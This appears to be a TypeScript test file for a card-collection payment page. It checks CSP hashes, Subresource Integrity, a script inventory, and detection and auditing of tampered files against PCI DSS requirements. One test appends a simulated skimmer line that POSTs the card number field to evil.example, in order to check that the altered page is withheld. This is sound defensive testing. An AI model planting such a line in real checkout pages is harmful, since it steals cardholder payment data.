import { createHash } from 'node:crypto';
import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/app.ts';
import { COLLECT_MANIFEST, COLLECT_ROOT, loadCollectPage, renderCollectRelease } from '../../src/modules/cards/collect-page.ts';
import { createCollectMonitor } from '../../src/modules/cards/collect-monitor.ts';
import { testApp, type TestApp } from '../support/app.ts';
import { TEST_DIALECT } from '../support/store.ts';
import { expectError } from '../vault/helpers.ts';

/**
 * The card-collection page against PCI DSS 4.0.1 6.4.3 and 11.6.1: its one script is named in
 * the Content-Security-Policy by hash and in the HTML by a Subresource Integrity hash, both of the
 * bytes served; the inventory lists them; and the changes an attacker (or a careless deploy) makes
 * are caught — a file that differs from the release manifest is withheld and audited, a change
 * since the page was last served (its files or its headers) is audited once, a file changed on
 * disk while the server runs is audited once.
 */
const SHOP = 'https://shop.example';
const sri = (body: string | Buffer) => `sha384-${createHash('sha384').update(body).digest('base64')}`;

describe(`card-collection page integrity (${TEST_DIALECT})`, () => {
  let t: TestApp;
  const dirs: string[] = [];
  const apps: FastifyInstance[] = [];

  /** A copy of web/cards/ to alter. */
  function copyOfPage(): URL {
    const dir = mkdtempSync(join(tmpdir(), 'custos-collect-'));
    dirs.push(dir);
    cpSync(new URL('.', COLLECT_ROOT), dir, { recursive: true });
    return pathToFileURL(`${dir}/`);
  }
  async function appOver(root: URL): Promise<FastifyInstance> {
    const app = await buildApp(t.runtime, { collectPageRoot: root });
    apps.push(app);
    await app.ready();
    return app;
  }
  const changes = async () => {
    await t.runtime.audit.chainPending();
    const rows = await t.runtime.store.db.selectFrom('audit_log').select(['actor', 'fields', 'outcome']).where('action', '=', 'cards.collect_page_changed').orderBy('id').execute();
    return rows.map((r) => ({ actor: r.actor, fields: JSON.parse(r.fields) as string[], outcome: r.outcome }));
  };

  beforeAll(async () => {
    t = await testApp({ env: { CUSTOS_STOREFRONT_ORIGINS: SHOP } });
  });
  afterAll(async () => {
    for (const app of apps) await app.close();
    await t?.close();
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });

  it('serves the page with a CSP naming its script by hash alone, framed only by the storefronts; SRI hashes match the bytes served; the inventory lists them', async () => {
    const page = await t.app.inject({ url: '/cards/collect' });
    expect(page.statusCode).toBe(200);
    const script = await t.app.inject({ url: '/cards/collect/collect.js' });
    const style = await t.app.inject({ url: '/cards/collect/collect.css' });
    expect(script.headers['content-type']).toMatch(/^text\/javascript/);
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toContain(`script-src '${sri(script.rawPayload)}'`);
    expect(csp).toContain(`frame-ancestors ${SHOP}`);
    expect(csp).toContain("require-trusted-types-for 'script'");
    expect(csp).not.toMatch(/unsafe|script-src[^;]*'self'/);
    expect(page.headers['x-frame-options']).toBeUndefined();
    expect(page.body).toContain(`src="/cards/collect/collect.js" integrity="${sri(script.rawPayload)}"`);
    expect(page.body).toContain(`href="/cards/collect/collect.css" integrity="${sri(style.rawPayload)}"`);
    // No inline script, no other script, no remote resource.
    expect(page.body.match(/<script/g)).toHaveLength(1);
    expect(page.body).not.toMatch(/<script>|\son[a-z]+=|https?:\/\//);
    const inventory = (await t.app.inject({ url: '/cards/collect/scripts.json' })).json<{ scripts: { src: string; integrity: string; sha256: string; justification: string }[]; manifest: string }>();
    expect(inventory.manifest).toBe('match');
    expect(inventory.scripts).toEqual([
      { src: '/cards/collect/collect.js', integrity: sri(script.rawPayload), sha256: createHash('sha256').update(script.rawPayload).digest('hex'), justification: expect.stringMatching(/postMessage/) },
    ]);
    // Every other page still refuses to be framed.
    expect((await t.app.inject({ url: '/account/claim' })).headers['x-frame-options']).toBe('DENY');
  });

  it('an unchanged start records the page as served and raises nothing', async () => {
    expect(await changes()).toEqual([]);
    const parts = await t.runtime.store.db.selectFrom('card_collect_page').select('part').orderBy('part').execute();
    expect(parts.map((p) => p.part)).toEqual(['collect.css', 'collect.html', 'collect.js', 'headers']);
  });

  it('a script that differs from the release manifest: the page and the script are withheld, the change audited and reported in the inventory', async () => {
    const root = copyOfPage();
    // What a skimmer adds: a second destination for the card number.
    appendFileSync(new URL('collect.js', root), "\nfetch('https://evil.example/c', { method: 'POST', body: document.getElementById('pan').value });\n");
    const app = await appOver(root);
    expectError(await app.inject({ url: '/cards/collect' }), 503, 'CARDS_COLLECT_PAGE_ALTERED');
    expectError(await app.inject({ url: '/cards/collect/collect.js' }), 503, 'CARDS_COLLECT_PAGE_ALTERED');
    expect((await app.inject({ url: '/cards/collect/scripts.json' })).json()).toMatchObject({ manifest: 'mismatch', withheld: ['collect.js'] });
    const raised = await changes();
    expect(raised).toContainEqual({ actor: 'system', fields: ['collect.js', 'against.manifest'], outcome: 'failure' });
    // The same start also saw a page other than the one last served (its CSP names the script's hash), and recorded it once.
    expect(raised).toContainEqual({ actor: 'system', fields: ['collect.js', 'headers', 'against.last_served'], outcome: 'success' });
  });

  it('a released change (manifest rewritten) and a change of headers are each audited once against the page last served', async () => {
    const root = copyOfPage();
    writeFileSync(new URL('collect.css', root), 'body { background: #fff; }\n');
    const release = renderCollectRelease(root);
    writeFileSync(new URL('collect.html', root), release.html);
    writeFileSync(new URL(COLLECT_MANIFEST, root), release.manifest);
    // The release as shipped served first (it also puts back what the test before altered).
    await appOver(COLLECT_ROOT);
    const before = (await changes()).length;
    const app = await appOver(root);
    expect((await app.inject({ url: '/cards/collect' })).statusCode).toBe(200);
    const after = (await changes()).slice(before);
    expect(after).toEqual([{ actor: 'system', fields: ['collect.html', 'collect.css', 'against.last_served'], outcome: 'success' }]);
    // Started again as it is: nothing new.
    await appOver(root);
    expect((await changes()).length).toBe(before + 1);
    // A new storefront origin changes frame-ancestors: the headers part changes.
    const headersBefore = loadCollectPage({ root, storefrontOrigins: [SHOP], baseHeaders: {} });
    const headersAfter = loadCollectPage({ root, storefrontOrigins: [SHOP, 'https://new.example'], baseHeaders: {} });
    expect(headersAfter.parts.get('headers')).not.toBe(headersBefore.parts.get('headers'));
    expect(headersAfter.parts.get('collect.js')).toBe(headersBefore.parts.get('collect.js'));
    const monitor = createCollectMonitor({ page: headersAfter, db: t.runtime.store.db, audit: t.runtime.audit, clock: t.runtime.clock, logger: t.runtime.logger });
    expect(await monitor.start()).toEqual({ manifest: [], lastServed: ['headers'] });
    monitor.close();
  });

  it('a file changed on disk while the server runs is audited once; the page served stays the one checked at start', async () => {
    const root = copyOfPage();
    const page = loadCollectPage({ root, storefrontOrigins: [SHOP], baseHeaders: {} });
    const monitor = createCollectMonitor({ page, db: t.runtime.store.db, audit: t.runtime.audit, clock: t.runtime.clock, logger: t.runtime.logger });
    expect(await monitor.checkDisk()).toEqual([]);
    const served = page.files.find((f) => f.file === 'collect.js')!.body.toString('utf8');
    appendFileSync(new URL('collect.js', root), '\n// changed\n');
    const before = (await changes()).length;
    expect(await monitor.checkDisk()).toEqual(['collect.js']);
    expect(await monitor.checkDisk()).toEqual(['collect.js']);
    const after = (await changes()).slice(before);
    expect(after).toEqual([{ actor: 'system', fields: ['collect.js', 'against.served'], outcome: 'failure' }]);
    expect(page.files.find((f) => f.file === 'collect.js')!.body.toString('utf8')).toBe(served);
    monitor.close();
  });
});
